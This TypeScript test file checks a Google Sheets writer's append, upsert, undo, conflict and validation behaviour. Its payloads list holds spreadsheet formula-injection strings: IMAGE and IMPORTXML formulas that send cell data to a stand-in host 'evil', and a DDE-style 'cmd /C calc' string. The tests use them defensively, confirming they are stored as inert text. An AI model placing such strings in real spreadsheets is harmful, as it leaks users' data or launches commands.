import type { Cell } from "../../backend/contract/cells.ts";
import type { Rpc, RpcEnvelope, RpcName, WriteTable } from "../rpc.ts";
import { dispatch } from "../server/dispatch.ts";
import type { WriteOptions, WriteTarget } from "../writes.ts";
import { type Check, refuses, same } from "./check.ts";

type Sheet = GoogleAppsScript.Spreadsheet.Sheet;

const WRITE = "rowsmith-verify";
const payloads = [
  '=IMAGE("https://evil/?d="&A1)',
  '=IMPORTXML("https://evil","//a")',
  '=HYPERLINK("https://evil","click")',
  "+1+1",
  "-1+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "＝1+1",
  "'=1+1",
  "007",
  "3-4",
  "TRUE",
  "5%",
  "1e5",
  "  7  ",
];
const invoices: WriteTable = {
  title: "Rowsmith verify",
  columns: [
    { name: "No", type: "id" },
    { name: "Date", type: "date" },
    { name: "Amount", type: "currency" },
  ],
  rows: [
    [{ value: "007" }, { value: "2026-11-23" }, { value: 1200.5, currency: "EUR" }],
    [{ value: "008" }, { value: null }, { value: -5, currency: "EUR" }],
  ],
};

/** The writer's own promises: as the sidebar calls it, each write taken back again. */
export const writeChecks: Check[] = [
  ...(["selection", "append"] as const).flatMap((kind) =>
    payloads.map((value) => ({
      title: `${kind}: ${JSON.stringify(value)} is that text and no formula, as a value and as a header`,
      source: "promise 5: data is data",
      run(sheet: Sheet) {
        if (kind === "append") sheet.getRange("A1").setValue("A");
        const target: WriteTarget =
          kind === "append" ? { kind, mapping: ["A", value] } : { kind, header: true };
        const columns: WriteTable["columns"] = [
          { name: "A", type: "text" },
          { name: value, type: "number" },
        ];
        write(sheet, target, { title: "", columns, rows: [[{ value }, { value }]] });
        same(sheet.getRange("A2:B2").getValues(), [[value, value]]);
        same(sheet.getRange("B1").getValue(), value);
        same(sheet.getRange("A1:B2").getFormulas(), [
          ["", ""],
          ["", ""],
        ]);
      },
    })),
  ),
  {
    title: "selection: numbers, dates and blanks arrive typed, and undo takes them back",
    source: "promises 4 and 6",
    run(sheet, spreadsheet) {
      const was = state(sheet);
      write(sheet, { kind: "selection", header: true });
      const [, line = []] = sheet.getRange("A1:C3").getValues();
      same(
        Utilities.formatDate(line[1], spreadsheet.getSpreadsheetTimeZone(), "yyyy-MM-dd HH:mm"),
        "2026-11-23 00:00",
      );
      same([line[0], line[2], sheet.getRange("B3").getValue()], ["007", 1200.5, ""]);
      undo();
      same(state(sheet), was);
    },
  },
  {
    title: "selection: what is covered comes back with its formulas, formats and notes",
    source: "promise 4: undo",
    run(sheet) {
      sheet.getRange("A1:B2").setNumberFormats([
        ["@", "0.00"],
        ["General", "General"],
      ]);
      sheet.getRange("A1:B2").setValues([
        ["old", 7],
        ["=1+1", true],
      ]);
      sheet.getRange("A1").setNotes([["a person's"]]);
      const was = state(sheet);
      write(sheet, { kind: "selection", header: true });
      undo();
      same(state(sheet), was);
    },
  },
  {
    title: "append: rows go under the table, each column under its header, and undo takes them out",
    source: "targets: append",
    run(sheet) {
      sheet.getRange("A1:D2").setValues([
        ["amount", "Note", "NO.", "Date"],
        [1, "keep", "x1", ""],
      ]);
      const was = state(sheet);
      write(sheet, { kind: "append" });
      same([sheet.getRange("A3").getValue(), sheet.getRange("C3").getValue()], [1200.5, "007"]);
      undo();
      same(state(sheet), was);
    },
  },
  {
    title: "append: rows are inserted where something stands below, and deleted again",
    source: "targets: append",
    run(sheet) {
      sheet.getRange("A1:A4").setValues([["No"], ["x1"], [""], ["below"]]);
      const was = state(sheet);
      write(sheet, { kind: "append" });
      same(sheet.getRange("A1:A6").getValues().map(String), ["No", "x1", "007", "008", "", "below"]);
      undo();
      same(state(sheet), was);
    },
  },
  {
    title: "append: the last row's formula goes down with the new rows",
    source: "targets: append",
    run(sheet) {
      sheet.getRange("A1:B2").setValues([
        ["No", "Twice"],
        ["x1", "=A2&A2"],
      ]);
      write(sheet, { kind: "append" });
      same(sheet.getRange("B4").getFormula(), "=A4&A4");
    },
  },
  {
    title: "upsert: rows found by key are updated, others come in, undo restores both",
    source: "targets: upsert",
    run(sheet) {
      sheet.getRange("A1:A3").setNumberFormat("@");
      sheet.getRange("A1:C3").setValues([
        ["No", "Amount", "Note"],
        ["007", 1, "keep"],
        ["x1", 2, "too"],
      ]);
      const was = state(sheet);
      write(sheet, { kind: "upsert", keys: ["No"] });
      same(sheet.getRange("A2:C2").getValues(), [["007", 1200.5, "keep"]]);
      same(sheet.getRange("A4").getValue(), "008");
      undo();
      same(state(sheet), was);
    },
  },
  {
    title: "fill-empty: only blank cells are filled",
    source: "targets: fill empty",
    run(sheet) {
      sheet.getRange("A1:A3").setNumberFormat("@");
      sheet.getRange("A1:B3").setValues([
        ["No", "Amount"],
        ["007", ""],
        ["008", 2],
      ]);
      write(sheet, { kind: "fill-empty", keys: ["No"] });
      same(sheet.getRange("B2:B3").getValues(), [[1200.5], [2]]);
    },
  },
  {
    title: "new sheet: it is named after the table, and undo deletes it",
    source: "targets: new sheet",
    run(sheet, spreadsheet) {
      const count = spreadsheet.getSheets().length;
      const { sheet: name } = write(sheet, { kind: "new-sheet" });
      same(spreadsheet.getSheetByName(name)?.getRange("A2").getValue(), "007");
      undo();
      same(spreadsheet.getSheets().length, count);
    },
  },
  {
    title: "the same write id again writes nothing",
    source: "promise 1: once",
    run(sheet) {
      const plan = call("plan", {
        table: invoices,
        target: { kind: "selection", header: true, at: at(sheet) },
      });
      const args = { writeId: WRITE, table: invoices, target: plan.target, planHash: plan.hash };
      call("apply", args);
      const was = state(sheet);
      same(call("apply", args).standing, "there");
      same(state(sheet), was);
    },
  },
  {
    title: "what changed since the plan is a conflict, and nothing is written",
    source: "promise 3: nothing overwritten unseen",
    run(sheet) {
      const plan = call("plan", {
        table: invoices,
        target: { kind: "selection", header: true, at: at(sheet) },
      });
      sheet.getRange("B2").setValue("mine");
      const was = state(sheet);
      const args = { writeId: WRITE, table: invoices, target: plan.target, planHash: plan.hash };
      refuses(() => call("apply", args), /^conflict/);
      same(state(sheet), was);
    },
  },
  {
    title: "a validation that rejects stops a write before it starts",
    source: "guards",
    run(sheet) {
      const rule = SpreadsheetApp.newDataValidation()
        .requireValueInList(["yes"])
        .setAllowInvalid(false)
        .build();
      sheet.getRange("A2").setDataValidation(rule);
      refuses(() => write(sheet, { kind: "selection", header: true }), /^validation-rejects A2/);
      same(sheet.getLastRow(), 0);
    },
  },
  {
    title: "a table of 1,000 rows takes 12 calls at most",
    source: "promise 2: all or told",
    run(sheet) {
      const row: Cell[] = invoices.rows[0] ?? [];
      const large = { ...invoices, rows: new Array<Cell[]>(1_000).fill(row) };
      const { calls } = write(sheet, { kind: "selection", header: true }, large);
      same(calls <= 12, true);
    },
  },
];

function at(sheet: Sheet) {
  return { sheetId: sheet.getSheetId(), row: 1, column: 1 };
}

function write(sheet: Sheet, target: WriteTarget, table = invoices, options: WriteOptions = {}) {
  const placed: WriteTarget =
    target.kind === "new-sheet" || target.kind === "update" ? target : { ...target, at: at(sheet) };
  const plan = call("plan", { table, target: placed, options });
  return call("apply", { writeId: WRITE, table, target: plan.target, planHash: plan.hash, options });
}

function undo(): void {
  same(call("undo", { writeId: WRITE }).conflicts, []);
}

/** Throws the problem's code and what names its place. */
function call<Name extends RpcName>(name: Name, args: Rpc[Name]["args"]): Rpc[Name]["result"] {
  const envelope = JSON.parse(dispatch(name, JSON.stringify(args))) as RpcEnvelope<Name>;
  if (envelope.ok) return envelope.result;
  throw new Error([envelope.problem.code, ...Object.values(envelope.problem.params ?? {})].join(" "));
}

/** All that a small sheet holds. */
function state(sheet: Sheet): unknown {
  const range = sheet.getRange("A1:F8");
  const size = [sheet.getMaxRows(), sheet.getMaxColumns()];
  return [size, range.getValues(), range.getFormulas(), range.getNumberFormats(), range.getNotes()];
}
